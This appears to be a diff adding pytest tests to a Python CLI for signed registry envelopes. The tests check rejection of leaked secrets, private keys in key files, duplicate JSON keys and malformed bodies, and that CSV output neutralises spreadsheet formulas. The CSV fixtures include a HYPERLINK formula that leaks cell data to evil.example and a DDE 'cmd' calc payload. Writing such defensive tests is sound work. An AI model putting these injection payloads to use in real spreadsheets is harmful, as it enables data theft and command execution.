@@ -7,6 +7,7 @@ commands run against the embedded sandbox.
 
 from __future__ import annotations
 
+import argparse
 import contextlib
 import csv
 import io
@@ -25,7 +26,7 @@ from typing import Any
 
 import pytest
 from spp_dci_ibr import SigningKey, jwk_to_pem, sign_envelope
-from spp_dci_ibr.cli import main
+from spp_dci_ibr.cli import CLIError, _build_parser, _csv_cell, main
 from spp_dci_ibr.sandbox import IBRSandbox
 
 COMMANDS = (
@@ -129,6 +130,61 @@ def test_usage_errors_are_one_line_with_exit_2(args: list[str], contains: str) -
     assert proc.returncode == 2
     assert_one_line_error(proc.stderr, contains=contains)
     assert proc.stdout == ""
+
+
+# Arguments that satisfy each command's required ones, so that only the option under test can
+# make parsing fail.
+MINIMAL_ARGS = {
+    "check": ["--id", "UIN=1"],
+    "batch": ["in.csv"],
+    "search": ["--id", "UIN=1"],
+    "enrolled": ["--id", "UIN=1"],
+    "verify": ["envelope.json", "--key", "key.pem"],
+}
+
+
+def _parsers() -> Iterator[tuple[list[str], argparse.ArgumentParser]]:
+    parser = _build_parser()
+    yield [], parser
+    [sub] = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
+    for name, command in sub.choices.items():
+        yield [name, *MINIMAL_ARGS.get(name, [])], command
+
+
+def test_every_long_option_of_every_command_refuses_its_prefixes() -> None:
+    parser = _build_parser()
+    checked = 0
+    for base, command in _parsers():
+        options = {o for o in command._option_string_actions if o.startswith("--")}
+        for option in sorted(options):
+            takes_value = command._option_string_actions[option].nargs != 0
+            for end in range(3, len(option)):
+                prefix = option[:end]
+                if prefix in options:
+                    continue
+                token = f"{prefix}=VALUE" if takes_value else prefix
+                try:
+                    _, extras = parser.parse_known_args([*base, token])
+                except CLIError as exc:
+                    raise AssertionError(f"{base[:1]} {token}: {exc.message}") from None
+                assert extras == [token], f"{base[:1]} {token} was taken as {option}"
+                checked += 1
+    assert checked > 500
+
+
+def test_a_secret_given_as_a_flag_is_refused_and_not_echoed(
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    # --client-secret would have been read as --client-secret-file: a file named by the secret.
+    for flag in ("--client-secret", "--bearer-token", "--client-sec"):
+        for args in ([flag, "hunter2-hunter2"], [f"{flag}=hunter2-hunter2"]):
+            code, out, err = run_main(capsys, "check", "--id", "UIN=1", *args)
+            assert code == 2
+            assert out == ""
+            assert_one_line_error(err, contains=f"unrecognized arguments: {flag}")
+            assert "hunter2" not in err
+    code, _, err = run_main(capsys, "check", "--id", "UIN=1", "--client-secret", "x")
+    assert "SPP_DCI_CLIENT_SECRET" in err
 
 
 def test_missing_configuration_is_named(capsys: pytest.CaptureFixture[str]) -> None:
@@ -290,11 +346,121 @@ def test_keygen_then_verify_round_trip(capsys: pytest.CaptureFixture[str], tmp_p
     write_envelope(envelope, key)
     pem = tmp_path / "public.pem"
     pem.write_text(key.public_pem())
-    for key_file in (jwks, pem, private):  # a JWKS, a public PEM, and the private key's half
+    jwk = tmp_path / "key.jwk"
+    jwk.write_text(json.dumps(key.public_jwk(SENDER, KEY_ID)))
+    for key_file in (jwks, pem, jwk):
         code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(key_file))
         assert code == 0, err
         assert out.startswith("valid  ")
         assert f"kid={SENDER}|{KEY_ID}|ed25519" in out
+
+
+def _private_key_files(tmp_path: Path) -> Iterator[Path]:
+    """Key files that hold a private key, whatever else they hold."""
+    key = SigningKey.generate()
+    public, private = key.public_pem(), key.private_pem()
+    jwk = key.public_jwk(SENDER, KEY_ID)
+    for name, text in (
+        ("private.pem", private),
+        ("public-then-private.pem", public + private),
+        ("private-then-public.pem", private + public),
+        ("private.jwk", json.dumps({**jwk, "d": "c2VjcmV0c2VjcmV0"})),
+        ("private.jwks", json.dumps({"keys": [jwk, {**jwk, "kid": "x", "d": "c2VjcmV0"}]})),
+    ):
+        path = tmp_path / name
+        path.write_text(text)
+        yield path
+
+
+def test_verify_refuses_a_key_file_holding_a_private_key(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    key = SigningKey.generate()
+    envelope = tmp_path / "envelope.json"
+    write_envelope(envelope, key)
+    for path in _private_key_files(tmp_path):
+        code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(path))
+        assert (code, out) == (2, ""), path.name
+        assert_one_line_error(err, contains="private")
+        assert "c2VjcmV0" not in err
+        assert all(line[:16] not in err for line in key.private_pem().splitlines()[1:-1])
+
+
+def test_registry_keys_file_holding_a_private_key_is_refused(
+    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    monkeypatch.setenv("SPP_DCI_BASE_URL", "http://127.0.0.1:9")
+    monkeypatch.setenv("SPP_DCI_SENDER_ID", SENDER)
+    monkeypatch.setenv("SPP_DCI_UNSIGNED", "1")
+    for path in _private_key_files(tmp_path):
+        code, out, err = run_main(
+            capsys, "search", "--id", "UIN=1", "--registry-keys-file", str(path)
+        )
+        assert (code, out) == (2, ""), path.name
+        assert_one_line_error(err, contains="private")
+        assert "c2VjcmV0" not in err
+
+
+def test_sandbox_trust_refuses_a_private_key(tmp_path: Path) -> None:
+    for path in _private_key_files(tmp_path):
+        # A key that were accepted would serve until interrupted: the timeout fails the test.
+        proc = run_cli("sandbox", "--synthetic", "1", "--trust", f"{SENDER}={path}", timeout=30)
+        assert proc.returncode == 2, path.name
+        assert_one_line_error(proc.stderr, contains="private")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '{"signature": "a", "signature": "b", "header": {}, "message": {}}',
+        '{"signature": "", "header": {"sender_id": "a", "sender_id": "b"}, "message": {}}',
+        '{"signature": "", "header": {}, "message": {"x": [1, {"y": {"z": 1, "z": 2}}]}}',
+        '{"signature": "", "header": {}, "message": {}, "message": {}}',
+        '{"signature": "", "header": {}, "message": {"\\u0061": 1, "a": 2}}',
+    ],
+    ids=["signature", "header", "deep", "message", "escaped"],
+)
+def test_verify_refuses_duplicate_keys_at_any_depth(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str
+) -> None:
+    key = tmp_path / "key.pem"
+    key.write_text(SigningKey.generate().public_pem())
+    envelope = tmp_path / "envelope.json"
+    envelope.write_text(text)
+    code, out, err = run_main(capsys, "verify", str(envelope), "--key", str(key))
+    assert (code, out) == (2, "")
+    assert_one_line_error(err, contains="duplicate key")
+
+
+@pytest.mark.parametrize(
+    ("body", "contains"),
+    [
+        (b'{"signature": "", "header": {}, "message": {"x": NaN}}', "NaN"),
+        (b'{"signature": "", "header": {}, "message": {"x": -Infinity}}', "Infinity"),
+        (b'{"signature": "", "header": {}, "message": {"x": "\\ud800"}}', "surrogate"),
+        (b'{"signature": "", "header": {}, "message": {"x": "\xff"}}', "UTF-8"),
+        (b"[" * 100000 + b"]" * 100000, "deep"),
+    ],
+    ids=["nan", "infinity", "lone-surrogate", "not-utf8", "too-deep"],
+)
+def test_verify_other_unreadable_bodies_are_usage_errors(
+    tmp_path: Path, body: bytes, contains: str
+) -> None:
+    key = tmp_path / "key.pem"
+    key.write_text(SigningKey.generate().public_pem())
+    envelope = tmp_path / "envelope.json"
+    envelope.write_bytes(body)
+    for source, stdin in ((str(envelope), None), ("-", body)):
+        proc = subprocess.run(
+            [sys.executable, "-m", "spp_dci_ibr", "verify", source, "--key", str(key)],
+            env=subprocess_env(),
+            input=stdin,
+            capture_output=True,
+            timeout=60,
+        )
+        err = proc.stderr.decode()
+        assert proc.returncode == 2, err
+        assert_one_line_error(err, contains=contains)
 
 
 def test_verify_reports_each_failure_with_exit_4(
@@ -368,6 +534,26 @@ def test_jwk_to_pem_from_a_file_a_jwks_and_stdin(
 
     proc = run_cli("jwk-to-pem", input=json.dumps(jwk))
     assert (proc.returncode, proc.stdout) == (0, key.public_pem())
+
+
+def test_jwk_to_pem_refuses_a_jwks_holding_a_private_key_even_for_another_kid(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    key = SigningKey.generate()
+    public = key.public_jwk(SENDER, "a")
+    private = {**SigningKey.generate().public_jwk(SENDER, "b"), "d": "c2VjcmV0c2VjcmV0"}
+    path = tmp_path / "jwks.json"
+    path.write_text(json.dumps({"keys": [public, private]}))
+    code, out, err = run_main(capsys, "jwk-to-pem", str(path), "--kid", f"{SENDER}|a|ed25519")
+    assert (code, out) == (2, "")
+    assert_one_line_error(err, contains="private")
+    path.write_text(json.dumps({"keys": [public, {"kty": "EC", "kid": "ec"}]}))
+    code, out, err = run_main(capsys, "jwk-to-pem", str(path))
+    assert (code, out) == (2, "")  # which key is meant is not guessed
+    assert_one_line_error(err, contains="--kid")
+    code, out, err = run_main(capsys, "jwk-to-pem", str(path), "--kid", "ec")
+    assert (code, out) == (2, "")
+    assert_one_line_error(err, contains="EC")
 
 
 def test_jwk_to_pem_refuses_a_private_jwk(
@@ -689,6 +875,67 @@ def test_batch_to_stdout_and_clean_input_exits_0(
     assert err == ""
     rows = list(csv.DictReader(io.StringIO(out)))
     assert [r["result"] for r in rows] == ["confirmed_match", "no_match"]
+
+
+# Cells a spreadsheet would read as a formula (OWASP "CSV injection"), and their neutral form.
+FORMULA_KEYS = {
+    '=HYPERLINK("http://evil.example/?"&A1)': '\'=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+1": "'+1+1",
+    "-1+1": "'-1+1",
+    "@SUM(A1:A9)": "'@SUM(A1:A9)",
+    "\t=1+1": "'=1+1",  # keys are read stripped of blanks
+    "\r=1+1": "'=1+1",
+    " =1+1": "'=1+1",
+    "\x00=1": "'\x00=1",
+    "\uff1d1+1": "'\uff1d1+1",  # a full-width equals sign
+    "a=1+1": "a=1+1",
+    "plain": "plain",
+    "'quoted": "'quoted",
+}
+
+
+def test_batch_csv_output_neutralises_formula_cells(
+    capsys: pytest.CaptureFixture[str],
+    sandbox: Any,
+    use_registry: dict[str, str],
+    tmp_path: Path,
+) -> None:
+    unknown = one(sandbox, "unknown")
+    lines = [json.dumps({"key": k, "identifiers": [unknown]}) for k in FORMULA_KEYS]
+    lines.append(json.dumps({"key": -42, "identifiers": [unknown]}))
+    lines.append(json.dumps({"key": "id-type", "identifiers": [["=cmd|' /C calc'!A0", "1"]]}))
+    lines.append(json.dumps({"key": "id-bad", "identifiers": "-2+3"}))
+    src = write_rows(tmp_path / "in.jsonl", "\n".join(lines) + "\n")
+    out = tmp_path / "out.csv"
+    code, _, err = run_main(capsys, "batch", str(src), "-o", str(out), "-q")
+    assert code in (0, 3), err
+    with open(out, encoding="utf-8", newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["key"] for r in rows] == [*FORMULA_KEYS.values(), "'-42", "id-type", "id-bad"]
+    by_key = {r["key"]: r for r in rows}
+    assert by_key["id-type"]["identifiers"] == "'=cmd|' /C calc'!A0=1"
+    assert by_key["id-bad"]["reasons"].startswith("invalid input:")
+    for row in rows:
+        for cell in row.values():
+            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "\uff1d"), row
+
+
+@pytest.mark.parametrize(
+    ("cell", "written"),
+    [
+        ("\t=1", "'\t=1"),
+        ("\r\n@x", "'\r\n@x"),
+        ("  -1", "'  -1"),
+        ("\u3000=1", "'\u3000=1"),
+        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
+        ("", ""),
+        ("1-1", "1-1"),
+        ("UIN=1", "UIN=1"),
+    ],
+)
+def test_csv_cells_from_any_source_are_neutralised(cell: str, written: str) -> None:
+    # Registry-supplied values (programme ids, reasons) reach the CSV unstripped.
+    assert _csv_cell(cell) == written
 
 
 def test_batch_draws_a_progress_bar_on_a_terminal(
